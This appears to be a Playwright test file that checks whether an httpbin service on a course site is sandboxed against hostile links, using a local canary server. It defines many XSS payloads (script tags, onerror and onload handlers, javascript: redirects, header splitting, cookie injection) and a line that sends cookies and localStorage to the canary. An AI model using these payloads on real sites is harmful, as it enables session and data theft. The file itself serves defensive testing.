/**
 * httpbin is served on the origin of the course, and answers what strangers choose in a link. Here a learner
 * follows hostile links; the judge is what happens, not what headers promise: dialogs, requests to a canary
 * server, and what the course keeps on its origin.
 */
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { expect, type Page } from '@playwright/test'
import { test } from '../test'

/** A server that nobody should reach, open to everybody. */
class Canary {
  readonly hits: string[] = []
  readonly #server: Server

  private constructor() {
    this.#server = createServer((request, response) => {
      this.hits.push(`${request.method} ${request.url}`)
      response.writeHead(200, { 'Access-Control-Allow-Origin': '*' })
      response.end('reached')
    })
  }

  static async start(): Promise<Canary> {
    const canary = new Canary()
    await new Promise<void>((resolve) => canary.#server.listen(0, '127.0.0.1', resolve))
    return canary
  }

  get origin(): string {
    return `http://127.0.0.1:${(this.#server.address() as AddressInfo).port}`
  }

  async stop(): Promise<void> {
    this.#server.closeAllConnections()
    await new Promise((resolve) => this.#server.close(resolve))
  }
}

/** What an attacker would do with one line of script here: the harmless first, which needs no origin. */
const theft = (canary: string) =>
  `new Image().src='${canary}/ran';alert(1);document.cookie='owned=1;path=/';` +
  `new Image().src='${canary}/stolen?'+encodeURIComponent(document.cookie+localStorage.getItem('draft'));` +
  `localStorage.setItem('draft','broken')`

/** Links by what they try; each is a path below the site. */
function hostileLinks(canary: string): Record<string, string> {
  const script = `<script>${theft(canary)}</script>`
  const image = `<img src="${canary}/image" onerror="${theft(canary)}">`
  const drawing = `<svg xmlns="http://www.w3.org/2000/svg" onload="${theft(canary)}"><script>${theft(canary)}</script></svg>`
  const xml = `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>${script.replaceAll('&', '&amp;')}</body></html>`
  const base64 = (text: string) => encodeURIComponent(Buffer.from(text).toString('base64'))
  const e = encodeURIComponent
  return {
    'script in base64': `/base64/${base64(script)}`,
    'image in base64': `/base64/${base64(image)}`,
    'drawing in base64': `/base64/decode/${base64(drawing)}`,
    'script as text': `/mix?body=${e(script)}`,
    'script without a type': `/mix?status=500&body=${e(script)}&header=${e('X-A: b')}`,
    'script as HTML': `/mix?type=text/html&body=${e(script)}`,
    'script as HTML by a header': `/mix?header=${e('Content-Type: text/html')}&body=${e(script)}`,
    'script as XHTML in a path': `/mix/type=${e('application/xhtml+xml')}/body=${e(xml)}`,
    'drawing as SVG': `/mix?type=${e('image/svg+xml')}&base64=${base64(drawing)}`,
    'document as XML': `/mix?type=text/xml&body=${e(xml)}`,
    'script as JSON': `/mix?json=${e(JSON.stringify({ a: script }))}`,
    'script as octets': `/mix?base64=${base64(script)}`,
    'script as a stream of events': `/mix?type=text/event-stream&body=${e(script)}`,
    'script by a split header': `/mix?header=${e(`X-A: b\r\n\r\n${script}`)}`,
    'policy of its own': `/mix?header=${e('Content-Security-Policy: script-src * *')}&body=${e(script)}`,
    'page refreshed to a script': `/mix?header=${e(`Refresh: 0; url=javascript:${theft(canary)}`)}`,
    'page refreshed to elsewhere': `/mix?header=${e(`Refresh: 0; url=${canary}/refreshed`)}`,
    'data cleared': `/mix?header=${e('Clear-Site-Data: "storage", "cookies"')}`,
    'style sheet that loads': `/mix?header=${e(`Link: <${canary}/style>; rel=stylesheet`)}&body=a`,
    'resource loaded before': `/mix?header=${e(`Link: <${canary}/preload>; rel=preload; as=script`)}&body=a`,
    'cookie for everywhere': `/mix?cookie=${e('owned=1; Path=/')}`,
    'HTML by response-headers': `/response-headers?Content-Type=text/html&x=${e(script)}`,
    'drawing by response-headers': `/response-headers?Content-Type=${e('image/svg+xml')}&x=${e(drawing)}`,
    'cookie by response-headers': `/response-headers?Set-Cookie=${e('owned=1; Path=/')}`,
    'cookie set above its path': `/cookies/set?owned=1&attr[Path]=/`,
    'script in an echo': `/anything/${e(script)}?${e(script)}=${e(script)}`,
    'script in an unknown path': `/${e(script)}`,
    'script in a link': `/links/${e(script)}`,
    'script in the raw request': `/dump/request?${e(script)}`,
    'script in a greeting': `/hello?name=${e(script)}`,
    'script as a redirect': `/redirect-to?url=${e(`javascript:${theft(canary)}`)}`,
    'document as a redirect': `/redirect-to?url=${e(`data:text/html,${script}`)}`,
    'redirect to elsewhere': `/redirect-to?url=${e(`${canary}/redirected`)}`,
    'redirect without a scheme': `/redirect-to?url=${e(canary.replace('http:', ''))}`,
    'redirect by a mix': `/mix?redirect=${e(`${canary}/mixed`)}`,
    'a drawing of ours': '/image/svg',
    'an XML document of ours': '/xml',
    'the index': `/?${e(script)}`,
  }
}

/** What the course keeps on its origin. */
const kept = (page: Page) =>
  page.evaluate(() => ({ draft: localStorage.getItem('draft'), cookie: document.cookie }))

test.describe('hostile links to httpbin', () => {
  let canary: Canary
  test.beforeEach(async ({ page, context, baseURL }) => {
    canary = await Canary.start()
    await context.addCookies([{ name: 'session', value: 'secret', url: baseURL ?? '' }])
    await page.goto('/healthz')
    await page.evaluate(() => localStorage.setItem('draft', 'mine'))
  })
  test.afterEach(() => canary.stop())

  test('run nothing, send nothing and change nothing', async ({ page, context, baseURL }) => {
    test.setTimeout(120_000)
    const dialogs: string[] = []
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message())
      void dialog.dismiss()
    })
    for (const [what, link] of Object.entries(hostileLinks(canary.origin))) {
      await test.step(what, async () => {
        const response = await page.goto(`/httpbin${link}`).catch((error: unknown) => {
          // What a browser will not show it offers to save.
          if (String(error).includes('Download is starting')) return null
          throw error
        })
        if (response !== null) {
          expect(response.url(), what).toMatch(`${baseURL}/httpbin/`)
          expect((await response.allHeaders())['content-security-policy'], what).toMatch(/^sandbox/)
          expect(await page.evaluate(() => self.origin), `${what} has an origin`).toBe('null')
          // What would run later, such as a refresh, gets its turn; timers of the page itself stand still there.
          await page.waitForTimeout(50)
        }
      })
    }
    await page.goto('/healthz')
    expect(await kept(page)).toEqual({ draft: 'mine', cookie: 'session=secret' })
    expect(dialogs).toEqual([])
    expect(canary.hits).toEqual([])
    const names = (await context.cookies()).map(({ name }) => name)
    expect(names).toEqual(['session'])
  })

  test('are no scripts, styles, workers or frames of a page of this site', async ({ page }) => {
    await page.goto('/healthz')
    const results = await page.evaluate(async (canaryOrigin) => {
      const outcome = (element: HTMLElement) =>
        new Promise<string>((resolve) => {
          element.onload = () => resolve('loaded')
          element.onerror = () => resolve('refused')
          document.head.append(element)
        })
      const attack = encodeURIComponent(`document.title='ran';fetch('${canaryOrigin}/ran')`)
      const found: Record<string, string> = {}
      for (const path of [
        `/httpbin/mix?body=${attack}`,
        `/httpbin/mix?body=${attack}&type=text/javascript`,
        `/httpbin/base64/encode/x`,
        `/httpbin/mix?json=${encodeURIComponent('[1]')}`,
        '/httpbin/jsonl?count=1',
      ]) {
        const script = Object.assign(document.createElement('script'), { src: path })
        found[`script ${path}`] = await outcome(script)
        const link = Object.assign(document.createElement('link'), {
          rel: 'stylesheet',
          href: path,
        })
        found[`style ${path}`] = await outcome(link)
        found[`worker ${path}`] = await new Promise<string>((resolve) => {
          const worker = new Worker(path)
          worker.onmessage = () => resolve('loaded')
          worker.onerror = () => resolve('refused')
        })
        found[`service worker ${path}`] = await navigator.serviceWorker.register(path).then(
          () => 'loaded',
          () => 'refused',
        )
      }
      return found
    }, canary.origin)
    expect(new Set(Object.values(results))).toEqual(new Set(['refused']))
    expect(await page.title()).not.toBe('ran')
    expect(canary.hits).toEqual([])
  })

  test('the canary is reached where a page may run', async ({ page }) => {
    await page.goto('/healthz')
    await page.evaluate((origin) => fetch(`${origin}/alive`).then(() => {}), canary.origin)
    expect(canary.hits).toEqual(['GET /alive'])
  })
})
